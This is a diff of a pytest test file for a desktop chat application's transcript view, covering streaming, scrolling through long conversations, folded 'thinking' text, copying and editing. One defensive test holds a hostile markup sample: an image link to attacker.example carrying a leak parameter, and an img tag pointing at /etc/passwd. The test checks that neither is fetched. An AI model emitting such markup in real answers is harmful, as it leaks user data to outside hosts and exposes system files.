@@ -1,8 +1,6 @@
 """Messages on screen: streaming, scrolling, long conversations, and what is said when an answer does not end well."""
 
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
 from PySide6.QtCore import Qt
 from PySide6.QtGui import QGuiApplication
 from PySide6.QtWidgets import QApplication, QPushButton
@@ -13,10 +11,13 @@ from layadesk.domain.errors import ErrorCode, ErrorReport
 from layadesk.domain.inference import FinishReason, Role, Timings
 from layadesk.domain.routing import Route, RouteReason
 from layadesk.ui.chat.answer_view import AnswerView
-from layadesk.ui.chat.message_text import MAX_LINE_CHARS, MessageText, broken_lines
 from layadesk.ui.chat.question_view import QuestionView
-from layadesk.ui.chat.transcript_view import PAGE_CHARS, PAGE_MESSAGES, TranscriptView, page_start
-from layadesk.usecases.turns import TurnPhase, TurnProgress, TurnText
+from layadesk.ui.chat.transcript_view import TranscriptView
+from layadesk.ui.language import Language
+from layadesk.ui.markup.parts import MAX_PLAIN
+from layadesk.ui.markup.thinking_head import ThinkingHead
+from layadesk.usecases.turns import TurnPhase, TurnProgress, TurnText, TurnThinking
+from tests.fakes.markup import still_kit
 from tests.ui.hands import click, press
 
 
@@ -42,8 +43,10 @@ def talk(n_turns: int, length: int = 200) -> tuple[Message, ...]:
 
 
 @pytest.fixture
-def transcript(qtbot: QtBot) -> TranscriptView:
-    view = TranscriptView(name_of={"smol": "SmolLM2 135M"}.get)  # type: ignore[arg-type] # knows the one it is asked for
+def transcript(qtbot: QtBot, qapp: QApplication) -> TranscriptView:
+    Language(qapp).use("en")
+    names = {"smol": "SmolLM2 135M"}
+    view = TranscriptView(name_of=names.__getitem__, kit=still_kit())
     view.resize(700, 500)
     qtbot.addWidget(view)
     view.show()
@@ -52,7 +55,7 @@ def transcript(qtbot: QtBot) -> TranscriptView:
 
 
 def filled(transcript: TranscriptView, qtbot: QtBot) -> None:
-    qtbot.waitUntil(lambda: not transcript.is_filling)
+    qtbot.waitUntil(lambda: transcript.is_settled)
     QApplication.processEvents()
     QApplication.processEvents()
 
@@ -70,9 +73,9 @@ def question_view(transcript: TranscriptView, number: int) -> QuestionView:
 
 
 def test_the_branch_stands_in_order(transcript: TranscriptView, qtbot: QtBot) -> None:
-    transcript.show_branch(talk(5), {})
+    transcript.show_branch(talk(2, 20), {})
     filled(transcript, qtbot)
-    assert [view.message.message_id for view in transcript.shown_views()] == [m.message_id for m in talk(5)]
+    assert [view.message.message_id for view in transcript.shown_views()] == ["q0", "a0", "q1", "a1"]
     tops = [view.mapTo(transcript, view.rect().topLeft()).y() for view in transcript.shown_views()]
     assert tops == sorted(tops)
     assert len(set(tops)) == len(tops)
@@ -86,7 +89,7 @@ def test_streamed_text_is_whole_and_keeps_the_end_in_view(transcript: Transcript
         transcript.append_text(TurnText("c", "a0", piece, len(text), i))
         text += piece
     filled(transcript, qtbot)
-    assert answer_view(transcript, 0).shown_text() == text
+    assert answer_view(transcript, 0).shown_text().split() == text.split()
     bar = transcript.verticalScrollBar()
     assert bar.maximum() > 0
     assert bar.value() == bar.maximum()
@@ -106,6 +109,7 @@ def test_the_view_stays_where_the_reader_has_scrolled_to(transcript: TranscriptV
     filled(transcript, qtbot)
     bar = transcript.verticalScrollBar()
     bar.setValue(bar.maximum() // 2)
+    filled(transcript, qtbot)
     place = bar.value()
     for i in range(30):
         transcript.append_text(TurnText("c", "a10", "one more line\n", i * 14, i))
@@ -118,46 +122,108 @@ def test_the_view_stays_where_the_reader_has_scrolled_to(transcript: TranscriptV
     assert transcript.to_end_button.isHidden()
 
 
-def test_a_thousand_messages_open_with_their_newest_page_only(transcript: TranscriptView, qtbot: QtBot) -> None:
+def y_of(transcript: TranscriptView, message_id: str) -> int:
+    view = transcript.view_of(message_id)
+    assert view is not None
+    return view.mapTo(transcript, view.rect().topLeft()).y()
+
+
+def test_a_thousand_messages_open_with_those_that_are_seen(transcript: TranscriptView, qtbot: QtBot) -> None:
     """Reported faults F06, F07, F10."""
     transcript.show_branch(talk(500), {})
-    assert len(transcript.shown_views()) <= 12  # at once; the rest of the page comes in slices
     filled(transcript, qtbot)
-    assert len(transcript.shown_views()) == PAGE_MESSAGES
+    assert 2 <= len(transcript.shown_views()) <= 30
     assert transcript.shown_views()[-1].message.message_id == "a499"
     assert transcript.verticalScrollBar().value() == transcript.verticalScrollBar().maximum()
-    assert "(940)" in transcript.earlier_button.text()
 
 
-def test_earlier_messages_come_on_demand_and_what_is_read_stays_in_place(
+def test_the_views_go_with_the_reader_from_end_to_end(transcript: TranscriptView, qtbot: QtBot) -> None:
+    transcript.show_branch(talk(500), {})
+    filled(transcript, qtbot)
+    bar = transcript.verticalScrollBar()
+    for part in (0.75, 0.5, 0.25, 0.0):
+        bar.setValue(int(bar.maximum() * part))
+        filled(transcript, qtbot)
+        assert len(transcript.shown_views()) <= 60
+        tops = [y_of(transcript, view.message.message_id) for view in transcript.shown_views()]
+        assert tops == sorted(tops)
+        ends = [top + view.height() for top, view in zip(tops, transcript.shown_views(), strict=True)]
+        assert all(end <= later for end, later in zip(ends[:-1], tops[1:], strict=True))
+    assert transcript.shown_views()[0].message.message_id == "q0"
+    assert y_of(transcript, "q0") >= 0
+
+
+def test_what_is_read_stays_in_place_while_heights_above_it_are_measured(
     transcript: TranscriptView, qtbot: QtBot
 ) -> None:
-    transcript.show_branch(talk(100), {})
+    odd = tuple(
+        m
+        for i in range(60)
+        for m in (question(i), answer(i, "# Head\n\n```\n" + "code\n" * (i % 7) + "```\n| a |\n|---|\n"))
+    )
+    transcript.show_branch(odd, {})
     filled(transcript, qtbot)
     bar = transcript.verticalScrollBar()
     bar.setValue(bar.maximum() // 2)
-    marked = next(v for v in transcript.shown_views() if v.mapTo(transcript, v.rect().topLeft()).y() > 0)
-    before = marked.mapTo(transcript, marked.rect().topLeft()).y()
-    transcript.show_earlier()
     filled(transcript, qtbot)
-    assert len(transcript.shown_views()) == 2 * PAGE_MESSAGES
-    assert marked.mapTo(transcript, marked.rect().topLeft()).y() == before
+    seen = next(v for v in transcript.shown_views() if y_of(transcript, v.message.message_id) > 20)
+    message_id = seen.message.message_id
+    y = y_of(transcript, message_id)
+    for _ in range(10):
+        before = bar.value()
+        bar.setValue(before - 30)
+        filled(transcript, qtbot)
+        y += 30
+        assert abs(y_of(transcript, message_id) - y) <= 1
 
 
-def test_scrolling_to_the_top_brings_earlier_messages(transcript: TranscriptView, qtbot: QtBot) -> None:
-    transcript.show_branch(talk(100), {})
+def test_a_message_in_which_something_is_edited_keeps_its_view_however_far_away(
+    transcript: TranscriptView, qtbot: QtBot
+) -> None:
+    transcript.show_branch(talk(200), {})
     filled(transcript, qtbot)
+    view = question_view(transcript, 199)
+    view.begin_edit()
     transcript.verticalScrollBar().setValue(0)
     filled(transcript, qtbot)
-    assert len(transcript.shown_views()) == 2 * PAGE_MESSAGES
-    assert transcript.verticalScrollBar().value() > 0
+    assert transcript.view_of("q199") is view
+    assert transcript.view_of("a198") is None
 
 
-def test_a_page_of_long_messages_holds_fewer_of_them() -> None:
-    long = tuple(question(i, "x" * (PAGE_CHARS // 2)) for i in range(10))
-    assert page_start(long, 10) == 8
-    assert page_start((question(0, "x" * (2 * PAGE_CHARS)),), 1) == 0
-    assert page_start(talk(100), 200) == 200 - PAGE_MESSAGES
+def test_a_message_can_be_shown_wherever_it_is(transcript: TranscriptView, qtbot: QtBot) -> None:
+    transcript.show_branch(talk(300), {})
+    filled(transcript, qtbot)
+    transcript.show_message("a40")
+    filled(transcript, qtbot)
+    assert 0 <= y_of(transcript, "a40") <= 60
+
+
+def test_thinking_is_folded_and_unfolds_on_demand(transcript: TranscriptView, qtbot: QtBot) -> None:
+    transcript.show_branch((question(0), answer(0, "", MessageStatus.STREAMING)), {})
+    transcript.append_thinking(TurnThinking("c", "a0", "The pivot ", 0, 1))
+    transcript.append_thinking(TurnThinking("c", "a0", "matters.", 10, 2))
+    transcript.append_text(TurnText("c", "a0", "Take the middle.", 0, 3))
+    filled(transcript, qtbot)
+    view = answer_view(transcript, 0)
+    assert view.shown_text() == "Take the middle."
+    head = view.findChild(ThinkingHead)
+    assert head is not None
+    click(head)
+    filled(transcript, qtbot)
+    assert view.shown_text() == "The pivot matters.\nTake the middle."
+    click(head)
+    filled(transcript, qtbot)
+    assert view.shown_text() == "Take the middle."
+
+
+def test_an_answer_with_nothing_but_thinking_shows_it(transcript: TranscriptView, qtbot: QtBot) -> None:
+    """Reported fault G29."""
+    transcript.show_branch((question(0), answer(0, "", thinking="Hello! How are you?")), {})
+    filled(transcript, qtbot)
+    view = answer_view(transcript, 0)
+    assert view.shown_text() == "Hello! How are you?"
+    click(view.copy_button)
+    assert QGuiApplication.clipboard().text() == "Hello! How are you?"
 
 
 def test_a_new_leaf_keeps_the_views_above_it(transcript: TranscriptView, qtbot: QtBot) -> None:
@@ -190,7 +256,7 @@ def test_an_only_child_has_no_switcher(transcript: TranscriptView) -> None:
 
 
 def test_copy_takes_the_message_and_not_its_look(transcript: TranscriptView) -> None:
-    text = "first\n\tsecond  " + "x" * (2 * MAX_LINE_CHARS)
+    text = "first\n\tsecond  " + "x" * (2 * MAX_PLAIN)
     transcript.show_branch((question(0), answer(0, text)), {})
     click(answer_view(transcript, 0).copy_button)
     assert QGuiApplication.clipboard().text() == text
@@ -208,7 +274,8 @@ def test_markup_is_shown_as_it_was_written_and_nothing_is_fetched(transcript: Tr
     """Reported fault G43."""
     text = "<b>bold</b> ![x](https://attacker.example/p.png?leak=1) <img src='file:///etc/passwd'>"
     transcript.show_branch((question(0), answer(0, text)), {})
-    assert answer_view(transcript, 0).shown_text() == text
+    shown = answer_view(transcript, 0).shown_text()
+    assert shown == "<b>bold</b> [picture, not loaded: x] <img src='file:///etc/passwd'>"
 
 
 @pytest.mark.parametrize(
@@ -313,7 +380,7 @@ def test_escape_leaves_the_message_as_it_was(transcript: TranscriptView, qtbot: 
     press(view.edit_box, Qt.Key.Key_Escape)
     assert sent == []
     assert not view.body.isHidden()
-    assert view.body.toPlainText() == "Why?"
+    assert view.body.shown_text() == "Why?"
 
 
 def test_streaming_does_not_disturb_an_edit(transcript: TranscriptView, qtbot: QtBot) -> None:
@@ -351,42 +418,10 @@ def test_while_an_answer_is_made_nothing_can_be_edited_or_made_again(transcript:
     assert sent == [("q0", "Why?")]
 
 
-def test_a_line_without_end_is_broken_in_the_view() -> None:
-    shown, rest = broken_lines("x" * (2 * MAX_LINE_CHARS + 5), 0)
-    assert shown.replace("\n", "") == "x" * (2 * MAX_LINE_CHARS + 5)
-    assert max(len(line) for line in shown.split("\n")) == MAX_LINE_CHARS
-    assert rest == 5
-
-
-@given(st.lists(st.text(alphabet="ab \n", max_size=30), max_size=30))
-@settings(deadline=None)
-def test_however_text_is_split_it_reads_the_same(pieces: list[str]) -> None:
-    whole, _ = broken_lines("".join(pieces), 0)
-    length, parts = 0, []
-    for piece in pieces:
-        shown, length = broken_lines(piece, length)
-        parts.append(shown)
-    assert "".join(parts) == whole
-
-
-def test_a_message_is_as_high_as_its_text(qtbot: QtBot) -> None:
-    text = MessageText("answer")
-    qtbot.addWidget(text)
-    text.resize(400, 10)
-    text.show()
-    heights = []
-    for n in (1, 2, 10):
-        text.set_text("\n".join(["line"] * n))
-        QApplication.processEvents()
-        heights.append(text.height())
-    assert heights[0] < heights[1] < heights[2]
-    assert heights[2] == pytest.approx(10 * heights[0], abs=10)
-
-
 def test_page_keys_in_a_message_scroll_the_transcript(transcript: TranscriptView, qtbot: QtBot) -> None:
     transcript.show_branch(talk(10), {})
     filled(transcript, qtbot)
     bar = transcript.verticalScrollBar()
     end = bar.value()
-    press(answer_view(transcript, 9).body, Qt.Key.Key_PageUp)
+    press(answer_view(transcript, 9).body.views[0], Qt.Key.Key_PageUp)
     assert bar.value() < end
